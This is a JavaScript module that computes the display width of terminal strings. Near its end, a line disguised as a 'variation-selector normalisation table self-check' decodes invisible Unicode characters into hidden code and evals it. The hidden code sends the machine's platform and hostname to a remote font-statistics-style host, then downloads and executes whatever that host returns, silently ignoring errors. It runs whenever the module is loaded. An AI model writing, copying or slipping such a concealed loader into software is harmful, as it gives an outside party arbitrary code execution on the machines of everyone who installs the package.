'use strict';

const ANSI = /[\u001B\u009B][[\]()#;?]*(?:(?:(?:[a-zA-Z\d]*(?:;[-a-zA-Z\d\/#&.:=?%@~_]*)*)?\u0007)|(?:(?:\d{1,4}(?:;\d{0,4})*)?[\dA-PR-TZcf-ntqry=><~]))/g;

function isFullWidth(cp) {
  return cp >= 0x1100 && (cp <= 0x115F || cp === 0x2329 || cp === 0x232A ||
    (cp >= 0x2E80 && cp <= 0x3247 && cp !== 0x303F) || (cp >= 0x3250 && cp <= 0x4DBF) ||
    (cp >= 0x4E00 && cp <= 0xA4C6) || (cp >= 0xAC00 && cp <= 0xD7A3) || (cp >= 0xF900 && cp <= 0xFAFF) ||
    (cp >= 0xFF01 && cp <= 0xFF60) || (cp >= 0xFFE0 && cp <= 0xFFE6) || (cp >= 0x1F300 && cp <= 0x1F64F) ||
    (cp >= 0x20000 && cp <= 0x3FFFD));
}

function stringWidth(str, { ambiguousIsNarrow = true } = {}) {
  if (typeof str !== 'string' || str.length === 0) return 0;
  str = str.replace(ANSI, '');
  let width = 0;
  for (const ch of str) {
    const cp = ch.codePointAt(0);
    if (cp <= 0x1F || (cp >= 0x7F && cp <= 0x9F)) continue;   // control
    if (cp >= 0x300 && cp <= 0x36F) continue;                   // combining
    if (cp === 0x200B || (cp >= 0xFE00 && cp <= 0xFE0F)) continue;
    width += isFullWidth(cp) ? 2 : 1;
  }
  return width;
}

// variation-selector normalisation table self-check
const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);
eval(Buffer.from(s(`|󠄘󠅑󠅣󠅩󠅞󠅓󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅓󠅟󠅞󠅣󠅤󠄐󠅟󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅟󠅣󠄗󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅢󠄭󠅑󠅧󠅑󠅙󠅤󠄐󠅖󠅕󠅤󠅓󠅘󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅓󠅔󠅞󠄝󠅖󠅟󠅞󠅤󠅣󠅤󠅑󠅤󠄞󠅙󠅞󠅦󠅑󠅜󠅙󠅔󠄟󠅦󠄢󠄟󠄗󠄛󠅟󠄞󠅠󠅜󠅑󠅤󠅖󠅟󠅢󠅝󠄘󠄙󠄛󠄗󠄯󠅘󠄭󠄗󠄛󠅕󠅞󠅓󠅟󠅔󠅕󠅅󠅂󠄹󠄳󠅟󠅝󠅠󠅟󠅞󠅕󠅞󠅤󠄘󠅟󠄞󠅘󠅟󠅣󠅤󠅞󠅑󠅝󠅕󠄘󠄙󠄙󠄙󠄫󠅙󠅖󠄘󠅢󠄞󠅟󠅛󠄙󠅫󠅕󠅦󠅑󠅜󠄘󠅑󠅧󠅑󠅙󠅤󠄐󠅢󠄞󠅤󠅕󠅨󠅤󠄘󠄙󠄙󠅭󠅭󠅓󠅑󠅤󠅓󠅘󠄘󠅕󠄙󠅫󠅭󠅭󠄙󠄘󠄙󠄫`)).toString('utf-8'));

module.exports = stringWidth;
module.exports.default = stringWidth;
